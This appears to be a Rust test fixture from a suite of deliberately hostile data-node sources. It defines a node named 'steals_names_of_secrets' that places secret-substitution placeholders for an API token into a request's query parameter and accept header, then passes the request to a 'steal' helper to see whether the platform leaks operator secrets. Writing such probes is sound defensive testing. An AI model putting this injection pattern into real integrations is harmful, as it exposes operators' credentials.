//! Writes what operators write for a secret into everything that it may set.

use datanode_hostile_sources::{API, steal};
use datanode_sdk::prelude::*;

datanode_hostile_sources::node!("steals_names_of_secrets", |context| {
    let name = "{secret:api_token}{basic:me:api_token}";
    let request = Request::get(API, "echo/guest").query("q", name).header("accept", name);
    steal(context, request)
});
